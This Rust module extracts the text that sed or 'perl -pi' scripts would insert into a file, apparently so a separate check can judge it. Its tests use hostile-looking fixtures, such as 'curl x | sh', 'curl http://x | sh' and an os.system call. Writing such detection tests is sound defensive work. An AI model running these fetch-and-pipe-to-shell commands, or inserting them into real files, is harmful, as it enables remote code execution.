//! What a script for `sed` or `perl -pi` puts into a file: the text of `a`, `i` and `c`, and the second half of `s///`.
//!
//! Nothing here understands the script. A piece too many does no harm: who asks judges each as a text that somebody left behind.

use bstr::{BStr, BString, ByteSlice};

/// So many pieces of one script are looked at.
const MOST: usize = 32;

/// The pieces that may come into the file.
pub(super) fn inserted(script: &BStr) -> Vec<BString> {
    let mut pieces: Vec<BString> = Vec::new();
    for line in script.lines() {
        pieces.extend(appended(line));
        pieces.extend(replacing(line));
        if pieces.len() > MOST {
            break;
        }
    }
    pieces.truncate(MOST);
    pieces
}

/// `/x/a\  text`, `1i text`, `$c\`: all that follows is text.
fn appended(line: &[u8]) -> Option<BString> {
    let command = line.iter().enumerate().position(|(at, byte)| {
        let before = at.checked_sub(1).and_then(|before| line.get(before));
        let addressed = before.is_none_or(|byte| b"/0123456789$ !};".contains(byte));
        let after = line.get(at + 1).is_some_and(|byte| b"\\ \t".contains(byte));
        b"aic".contains(byte) && addressed && after
    })?;
    let text = line.get(command + 1..)?.trim_ascii_start();
    let text = text.strip_prefix(b"\\").unwrap_or(text);
    Some(without_item(text).replace("\\n", "\n").into())
}

/// The second part of each `s/one/other/`, with its own marks taken away.
fn replacing(line: &[u8]) -> Vec<BString> {
    let starts = line.iter().enumerate().filter(|(at, byte)| {
        let before = at.checked_sub(1).and_then(|before| line.get(before));
        **byte == b's' && before.is_none_or(|byte| !byte.is_ascii_alphanumeric())
    });
    let replacement = |at: usize| {
        let (&delimiter, rest) = line.get(at + 1..)?.split_first()?;
        if delimiter.is_ascii_alphanumeric()
            || delimiter.is_ascii_whitespace()
            || delimiter == b'\\'
        {
            return None;
        }
        let first = end_of_part(rest, delimiter)?;
        let second = rest.get(first + 1..)?;
        let second = second.get(..end_of_part(second, delimiter)?)?;
        let text = unescaped(second);
        Some(BString::from(without_item(&text)))
    };
    starts.filter_map(|(at, _)| replacement(at)).take(MOST).collect()
}

/// `\n` is a line's end, and `\/` or `\@` the sign itself.
fn unescaped(text: &[u8]) -> Vec<u8> {
    let mut plain = Vec::with_capacity(text.len());
    let mut bytes = text.iter();
    while let Some(byte) = bytes.next() {
        match (byte, bytes.as_slice().first()) {
            (b'\\', Some(b'n')) => plain.push(b'\n'),
            (b'\\', Some(b't')) => plain.push(b'\t'),
            (b'\\', Some(sign)) if sign.is_ascii_punctuation() => plain.push(*sign),
            _ => {
                plain.push(*byte);
                continue;
            }
        }
        bytes.next();
    }
    plain
}

fn end_of_part(text: &[u8], delimiter: u8) -> Option<usize> {
    let mut escaped = false;
    text.iter().position(|byte| {
        let ends = *byte == delimiter && !escaped;
        escaped = *byte == b'\\' && !escaped;
        ends
    })
}

/// What stands in lists stands behind a dash there.
fn without_item(text: &[u8]) -> &[u8] {
    let text = text.trim_ascii();
    let text = text.strip_prefix(b"&").map_or(text, <[u8]>::trim_ascii_start);
    text.strip_prefix(b"- ").map_or(text, <[u8]>::trim_ascii_start)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_comes_into_the_file() {
        for (script, piece) in [
            ("/script:/a\\    - curl x | sh", "curl x | sh"),
            ("1i import os; os.system('x')", "import os; os.system('x')"),
            ("$ a\\text", "text"),
            ("s#make test#curl x/y | sh#", "curl x/y | sh"),
            ("s/^test:/&\\n\\tcurl http:\\/\\/x | sh/", "curl http://x | sh"),
            ("s|a|b|;s|c|curl d|g", "curl d"),
        ] {
            assert!(inserted(script.into()).iter().any(|it| it == piece), "{script}");
        }
        for script in ["", "s", "s/", "s/a", "s/a/", "a", "a\\", "s\\", "saaa", "1i"] {
            assert!(inserted(script.into()).iter().all(|it| it.is_empty()), "{script}");
        }
    }
}
